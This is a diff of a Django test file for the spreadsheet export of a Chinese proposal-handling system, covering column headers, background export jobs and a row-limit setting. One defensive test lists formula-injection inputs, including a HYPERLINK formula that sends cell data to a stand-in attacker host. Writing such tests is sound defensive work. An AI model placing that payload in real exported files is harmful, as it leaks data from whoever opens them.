@@ -13,15 +13,48 @@ from django.urls import reverse
 from django.utils import timezone
 from openpyxl import load_workbook
 
-from proposals import exports, services
+from proposals import export_items, exports, services, workbook
 from proposals.models import ExportJob, ExportStatus
 from replies import services as reply_services
 from replies.models import FollowUp
 
 from .factories import UnitFactory, UserFactory
 
-ITEM_HEADERS = ["编号", "标题", "领衔人", "届次会议", "类别", "状态", "提交时间", "重点"]
-WORK_HEADERS = ["编号", "标题", "领衔人", "承办方式", "交办时间", "办理期限", "剩余天数", "状态"]
+ITEM_HEADERS = [
+    "编号",
+    "标题",
+    "类型",
+    "届次",
+    "领衔人",
+    "联名人",
+    "类别",
+    "状态",
+    "重点",
+    "主办单位",
+    "会办单位",
+    "分办单位",
+    "交办日",
+    "期限",
+    "答复日",
+    "文号",
+    "答复类别",
+    "公开属性",
+    "办理工作测评",
+    "办理结果测评",
+    "重新办理",
+    "办结日",
+]
+WORK_HEADERS = [
+    "编号",
+    "标题",
+    "领衔人",
+    "承办方式",
+    "重新办理",
+    "交办时间",
+    "办理期限",
+    "剩余天数",
+    "状态",
+]
 
 
 def submitted(author, meeting, category, title):
@@ -59,24 +92,24 @@ class TestSafeCell:
         ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-1", "@SUM(A1:A9)", "\t=1"],
     )
     def test_formula_text_gets_a_leading_quote(self, text):
-        assert exports.safe_cell(text) == "'" + text
+        assert workbook.safe_cell(text) == "'" + text
 
     def test_plain_text_numbers_and_dates_stay_as_they_are(self):
-        assert exports.safe_cell("关于=的建议") == "关于=的建议"
-        assert exports.safe_cell(-3) == -3
-        assert exports.safe_cell(2.5) == 2.5
-        assert exports.safe_cell(None) is None
-        assert exports.safe_cell(date(2026, 3, 1)) == date(2026, 3, 1)
+        assert workbook.safe_cell("关于=的建议") == "关于=的建议"
+        assert workbook.safe_cell(-3) == -3
+        assert workbook.safe_cell(2.5) == 2.5
+        assert workbook.safe_cell(None) is None
+        assert workbook.safe_cell(date(2026, 3, 1)) == date(2026, 3, 1)
 
     def test_aware_datetimes_are_local_and_naive(self):
         moment = timezone.make_aware(datetime(2026, 3, 1, 2, 30), timezone.get_fixed_timezone(0))
-        assert exports.safe_cell(moment) == datetime(2026, 3, 1, 10, 30)  # Asia/Shanghai
+        assert workbook.safe_cell(moment) == datetime(2026, 3, 1, 10, 30)  # Asia/Shanghai
 
     def test_control_characters_cannot_hide_a_formula(self):
-        assert exports.safe_cell("\x01=1+1") == "'=1+1"
+        assert workbook.safe_cell("\x01=1+1") == "'=1+1"
 
     def test_write_rows_header_is_bold_and_frozen_and_text_is_text(self):
-        content = exports.write_rows(
+        content = workbook.write_rows(
             [["=1+1", date(2026, 1, 2), 7], ["@x", None, -1]], ["标题", "日期", "天数"]
         )
         sheet = sheet_of(content)
@@ -108,7 +141,7 @@ class TestItemExport:
         mine, registered, _ = items
         response = login(member).get(self.url)
         assert response.status_code == 200
-        assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
+        assert response["Content-Type"] == workbook.XLSX_CONTENT_TYPE
         disposition = response["Content-Disposition"]
         assert disposition.startswith("attachment; filename*=utf-8''")
         assert quote("建议提案") in disposition and disposition.endswith(".xlsx")
@@ -128,13 +161,40 @@ class TestItemExport:
         assert len(everything) == 4  # header and the three submitted items
         rows = rows_of(body_of(client.get(self.url, {"status": "registered", "page": "2"})))
         assert len(rows) == 2
-        number, title, lead, meeting, category, status, submitted_at, key = rows[1]
-        assert (number, title, lead) == (registered.number_label, registered.title, "何红")
-        assert (meeting, category, status) == (registered.meeting.short_name, "民政", "已立案")
+        row = dict(zip(ITEM_HEADERS, rows[1], strict=True))
+        assert (row["编号"], row["标题"], row["领衔人"]) == (
+            registered.number_label,
+            registered.title,
+            "何红",
+        )
+        assert (row["届次"], row["类别"], row["状态"]) == (
+            registered.meeting.short_name,
+            "民政",
+            "已立案",
+        )
+        assert row["类型"] == "建议"
+        # not assigned yet: no units, dates or reply
+        assert {header: value for header, value in row.items() if value is not None} == {
+            "编号": registered.number_label,
+            "标题": registered.title,
+            "类型": "建议",
+            "届次": registered.meeting.short_name,
+            "领衔人": "何红",
+            "类别": "民政",
+            "状态": "已立案",
+        }
+
+        # the submission time is a column to choose; typed, in local time
+        exports.export_columns_remember(
+            user=npc_supervisor, kind="items", columns=["number", "submitted_at"]
+        )
+        rows = rows_of(body_of(client.get(self.url, {"status": "registered"})))
+        assert list(rows[0]) == ["编号", "提交时间"]
+        number, submitted_at = rows[1]
+        assert number == registered.number_label
         assert isinstance(submitted_at, datetime)  # a real date, in local time
         local = timezone.localtime(registered.submitted_at).replace(tzinfo=None)
         assert abs(submitted_at - local) < timedelta(seconds=1)
-        assert key is None
 
     def test_text_that_looks_like_a_formula_is_neutralised(
         self, login, member, npc_meeting, npc_category
@@ -168,8 +228,8 @@ class TestWorkspaceExport:
         assert list(rows[0]) == WORK_HEADERS
         assert sorted(row[1] for row in rows[1:]) == sorted(item.title for item in assigned)
         for row in rows[1:]:
-            _, _, lead, role, assigned_at, due_on, left, status = row
-            assert (lead, role, status) == ("何红", "主办", "待签收")
+            _, _, lead, role, round_, assigned_at, due_on, left, status = row
+            assert (lead, role, round_, status) == ("何红", "主办", None, "待签收")
             assert isinstance(assigned_at, datetime) and isinstance(due_on, datetime)
             assert assigned_at.date() == timezone.localdate()
             assert left == (due_on.date() - timezone.localdate()).days > 0
@@ -242,7 +302,13 @@ class TestBackgroundExport:
         job = ExportJob.objects.get()
         assert response.status_code == 302
         assert response["Location"] == f"/items/exports/{job.pk}/"
-        assert (job.owner, job.kind, job.query) == (member, "items", "kind=suggestion")
+        columns = ",".join(export_items.DEFAULT_ITEM_COLUMNS)
+        assert (job.owner, job.kind) == (member, "items")
+        assert job.query == "kind=suggestion&export_columns=" + columns.replace(",", "%2C")
+        assert exports.split_job_query("items", job.query) == (
+            "kind=suggestion",
+            export_items.DEFAULT_ITEM_COLUMNS,
+        )
         assert (job.status, job.total, job.done) == (ExportStatus.PENDING, 5, 0)
         assert len(callbacks) == 1
 
@@ -399,3 +465,31 @@ class TestOldExportsArePurged:
         assert storage.exists(recent.file.name)
         assert client.get(f"/items/exports/{old.pk}/download/").status_code == 404
         assert client.get(f"/items/exports/{recent.pk}/download/").status_code == 200
+
+
+@pytest.mark.parametrize(("value", "expected"), [("123", "123"), (None, "5000")])
+def test_the_sync_limit_is_read_from_the_environment(value, expected):
+    """EXPORT_SYNC_MAX_ROWS, documented in the README, is a setting of the deployment."""
+    import os
+    import subprocess
+    import sys
+    from pathlib import Path
+
+    env = {key: item for key, item in os.environ.items() if key != "EXPORT_SYNC_MAX_ROWS"}
+    if value is not None:
+        env["EXPORT_SYNC_MAX_ROWS"] = value
+    code = "import config.settings.base as base; print(base.EXPORT_SYNC_MAX_ROWS)"
+    result = subprocess.run(
+        [sys.executable, "-c", code],
+        env=env,
+        cwd=Path(__file__).resolve().parent.parent,
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    assert result.stdout.strip() == expected
+
+
+def test_the_limit_comes_from_the_setting(settings):
+    settings.EXPORT_SYNC_MAX_ROWS = 7
+    assert exports.sync_max_rows() == 7
